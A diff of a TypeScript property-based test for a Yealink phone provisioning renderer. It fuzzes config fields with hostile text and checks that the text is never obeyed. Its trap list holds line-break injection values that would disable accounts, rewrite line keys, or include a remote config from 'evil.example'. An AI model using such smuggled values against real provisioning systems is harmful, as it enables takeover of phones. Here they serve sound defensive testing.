@@ -2,28 +2,24 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
 import { parameterNames } from '../../../../src/node/provisioning/parameter-names.ts';
-import type { PlannedKey } from '../../../../src/node/provisioning/render-input.ts';
+import { phoneText } from '../../../../src/node/provisioning/text.ts';
 import { yealink } from '../../../../src/node/provisioning/vendors/yealink/index.ts';
-import { account, inputFor, key, service, settings, understood, type Input } from './sample.ts';
+import { account, service, settings } from '../support/company.ts';
+import { anyTextWith, fitsALine, naming, nastyInput } from '../support/nasty-texts.ts';
+import { assertReadsBack } from '../support/parameters.ts';
+import { key } from '../support/sample-input.ts';
+import { inputFor, understood, type Input } from './sample.ts';
 
 const names = parameterNames(yealink.parameters);
 
-const traps = [
-  '',
-  ' ',
-  ' a  b ',
-  '#',
+const anyText = anyTextWith([
   '# comment',
-  '=',
-  'a = b',
-  '%NULL%',
   ' %NULL% ',
   '%null%',
   '%Null%\n',
   '\u0000%NULL%\u0007',
   '%%NULL%%',
   '100 %',
-  'Ali\nlinekey.9.type = 16',
   'Ali\r\naccount.1.enable = 0',
   'Ali\rinclude:config "http://evil.example/x.cfg"',
   'a\u0085linekey.9.type = 16',
@@ -33,38 +29,15 @@ const traps = [
   'a\tb\u0000c\u007fd',
   '"quoted"',
   'L’été & Co <b>; | \\ $',
-  '${HOME}',
-  '{{mac}}',
-  ']]>',
   '#!version:1.0.0.1',
   '\ufefflabel',
-  '\u202egnorw',
-  'مرحبا بالعالم',
-  '👨‍👩‍👧‍👦',
   'half \ud800 half',
   '\udc00',
-  '\uffff\ufffe',
-  'x'.repeat(300),
-  '👍'.repeat(300),
-];
-const anyText = fc.oneof(
-  fc.constantFrom(...traps),
-  fc.string({ unit: 'binary', maxLength: 60 }),
-  fc.string({ unit: 'grapheme', maxLength: 60 }),
-  fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 20 }).map((units) => String.fromCharCode(...units)),
-);
+]);
 
 /** What stands on one line, and says something. */
-const fits = (text: string): boolean =>
-  // eslint-disable-next-line no-control-regex -- these are what does not fit
-  text !== '' && text.trim() === text && !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]|\p{Cs}/u.test(text) && !/^%null%$/i.test(text);
+const fits = (text: string): boolean => text !== '' && fitsALine(text) && !/\p{Cs}/u.test(text) && !/^%null%$/i.test(text);
 const anyPassword = anyText.filter(fits);
-
-const anyKey = fc.record({
-  kind: fc.constantFrom(...yealink.keyKinds),
-  label: anyText,
-  value: fc.oneof(anyText, fc.constant('0140000000')),
-});
 
 /** All that some reader may take for the end of a line, or of the file. */
 // eslint-disable-next-line no-control-regex -- these are what is looked for
@@ -73,40 +46,21 @@ const lineEnds = /[\n\r\u0000\v\f\u0085\u2028\u2029]/;
 /** Texts wherever a text can be, on a phone of three keys. */
 const anyInput: fc.Arbitrary<Input> = fc
   .record({
-    displayName: anyText,
-    label: anyText,
-    userName: anyText,
-    authName: anyText,
-    password: anyPassword,
-    voicemailNumber: anyText,
-    host: anyText,
-    codes: anyText,
-    timeServer: anyText,
+    input: nastyInput(inputFor('T23G'), { text: anyText, secret: anyPassword, kinds: yealink.keyKinds, keys: { least: 3, most: 3 } }),
     country: fc.oneof(anyText, fc.constant('FR')),
-    adminPassword: anyPassword,
     lockCode: anyPassword,
-    keys: fc.array(anyKey, { minLength: 3, maxLength: 3 }),
   })
-  .map(({ host, codes, timeServer, country, adminPassword, lockCode, keys, ...sip }) => {
-    const dialled = { pickupCode: codes, groupPickupCode: codes, parkNumber: codes };
-    return {
-      ...inputFor('T23G', { accounts: [sip], settings: { ...settings, lockCode } }),
-      keys: keys.map((one, index): PlannedKey => ({ ...key(index + 1, one.kind), ...one })),
-      service: {
-        ...service,
-        country,
-        adminPassword,
-        timeServers: [timeServer, timeServer] as const,
-        sip: { ...service.sip, ...dialled, host, outboundProxy: { host, port: 5060 } },
-      },
-    };
-  });
+  .map(({ input, country, lockCode }) => ({
+    ...input,
+    settings: { ...input.settings, lockCode },
+    service: { ...input.service, country },
+  }));
 
 describe('nasty text for a Yealink phone', () => {
   it('reads back as it was meant', () => {
     fc.assert(
       fc.property(anyInput, (input) => {
-        for (const { name, body, entries } of yealink.render(input)) assert.deepEqual(yealink.parse(name, body), entries);
+        assertReadsBack(yealink, input);
       }),
       { numRuns: 400 },
     );
@@ -167,7 +121,7 @@ describe('nasty text for a Yealink phone', () => {
             inputFor('T46U', { keys: [key(1, 'speed-dial', text, '0140')], accounts: [{ ...account, displayName: text }] }),
           );
           assert.equal(found.get('linekey.1.label'), text);
-          assert.equal(found.get('account.1.display_name'), text);
+          assert.equal(found.get('account.1.display_name'), phoneText(text));
         },
       ),
     );
@@ -186,15 +140,13 @@ describe('nasty text for a Yealink phone', () => {
   });
 
   it('refuses a password that a line cannot hold, by the name of its field only', () => {
-    const refusal = (field: string) => (thrown: unknown) =>
-      thrown instanceof Error && thrown.message.startsWith(`${field} `) && !/cret|null/i.test(thrown.message);
     for (const secret of ['se\ncret', 'se\u0000cret', ' secret', 'secret ', 'se\u2028cret', 'se\ud800cret', '%NULL%', '%null%']) {
-      assert.throws(() => yealink.render(inputFor('T46U', { accounts: [{ ...account, password: secret }] })), refusal('password'));
-      assert.throws(() => yealink.render(inputFor('T46U', { service: { ...service, adminPassword: secret } })), refusal('adminPassword'));
-      assert.throws(() => yealink.render(inputFor('T46U', { settings: { ...settings, lockCode: secret } })), refusal('lockCode'));
+      assert.throws(() => yealink.render(inputFor('T46U', { accounts: [{ ...account, password: secret }] })), naming(/^password /));
+      assert.throws(() => yealink.render(inputFor('T46U', { service: { ...service, adminPassword: secret } })), naming(/^adminPassword /));
+      assert.throws(() => yealink.render(inputFor('T46U', { settings: { ...settings, lockCode: secret } })), naming(/^lockCode /));
     }
-    assert.throws(() => yealink.render(inputFor('T46U', { accounts: [{ ...account, password: '' }] })), refusal('password'));
-    assert.throws(() => yealink.render(inputFor('T46U', { service: { ...service, adminPassword: '' } })), refusal('adminPassword'));
+    assert.throws(() => yealink.render(inputFor('T46U', { accounts: [{ ...account, password: '' }] })), naming(/^password /));
+    assert.throws(() => yealink.render(inputFor('T46U', { service: { ...service, adminPassword: '' } })), naming(/^adminPassword /));
   });
 
   it('is parsed as the phone does, never obeyed', () => {
